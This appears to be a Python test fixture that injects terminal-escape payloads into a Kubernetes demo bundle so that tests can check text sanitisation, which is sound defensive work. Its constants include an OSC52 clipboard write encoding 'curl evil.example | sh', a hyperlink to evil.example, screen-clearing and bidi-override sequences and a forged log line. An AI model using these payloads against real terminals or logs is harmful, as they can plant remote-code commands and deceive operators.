"""A hostile copy of the demo bundle: every field anyone who may write an Event, annotate an object, name
an image or send a bundle controls, filled with terminal escapes, bidi overrides, line breaks and rich
markup. Used by the CLI and TUI tests of the text boundary (render.safe)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

DEMO = Path(__file__).resolve().parents[2] / "examples" / "automode-gpu-demo.json"

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # clipboard <- "curl evil.example | sh"
OSC8 = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
CSI = "\x1b[2J\x1b[H"
C1 = "\x9b31m\x9d0;title\x9c"  # 8-bit CSI, OSC, ST
BIDI = "\u202etxt.exe\u202c\u2066x\u2069"
FORGED = "FORGED-LINE"
NEWLINE = f"ok\n{FORGED} error: everything is fine\r\n"
MARKUP = "[bold red]MARKUP[/] [link=http://evil.example/]LINK[/link]"
PAYLOAD = " ".join((OSC52, OSC8, CSI, C1, BIDI, NEWLINE, MARKUP))

#: what must never reach a terminal from cluster text: escapes (ESC, 8-bit C1, BEL), bidi controls, CR
FORBIDDEN_CHARS = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\r", "\u202e", "\u202c", "\u2066", "\u2069")
#: a few markers: the markup as text (never interpreted), the escaped ESC, the escaped bidi override
SHOWN = ("[bold red]MARKUP[/]", "\\x1b]52;c;", "\\u202e")


def _hostile_probe(probe: dict[str, Any]) -> None:
    """Probe output is XML: a bidi override fits there as a character reference (raw ESC would not)."""
    output = probe.get("output")
    if isinstance(output, str):
        probe["output"] = output.replace(
            "<product_name>NVIDIA L40S</product_name>", "<product_name>NVIDIA &#x202e;S04L</product_name>"
        )


def _hostile_object(obj: dict[str, Any]) -> None:
    kind = obj["kind"]
    meta = obj.setdefault("metadata", {})
    meta.setdefault("annotations", {})["evil.example/note"] = PAYLOAD
    meta.setdefault("labels", {})["team"] = "ml"  # a valid label: analyses still match on the real ones
    if kind == "Event":
        obj["message"] = f"{obj.get('message', '')} {PAYLOAD}"
    elif kind == "Node":
        status = obj.setdefault("status", {})
        status.setdefault("nodeInfo", {})["osImage"] = f"Bottlerocket {PAYLOAD}"
        for condition in status.get("conditions", []):
            condition["message"] = f"{condition.get('message', '')} {PAYLOAD}"
    elif kind == "Pod":
        for container in obj.get("spec", {}).get("containers", []):
            container["image"] = f"{container.get('image', 'img')}{PAYLOAD}"
    elif kind in ("NodeClass", "NodeClaim", "NodePool"):
        for condition in obj.setdefault("status", {}).setdefault("conditions", []):
            condition["message"] = f"{condition.get('message', '')} {PAYLOAD}"


def hostile_bundle() -> dict[str, Any]:
    data = json.loads(DEMO.read_text())
    data["context"] = f"arn:aws:eks:us-west-2:111122223333:cluster/demo{BIDI}{OSC52}"
    for obj in data["objects"]:
        _hostile_object(obj)
    for probe in (data.get("probes") or {}).values():
        _hostile_probe(probe)
    return data


def write_hostile_bundle(path: Path) -> Path:
    path.write_text(json.dumps(hostile_bundle()))
    return path


def unsafe_in(text: str) -> list[str]:
    """What `text` holds that must not reach a terminal: forbidden characters, and lines that start with
    the forged marker (a line break in cluster text that began a line of its own)."""
    found = [repr(c) for c in FORBIDDEN_CHARS if c in text]
    found += [f"forged line {line!r}" for line in text.splitlines() if line.lstrip().startswith(FORGED)]
    return found
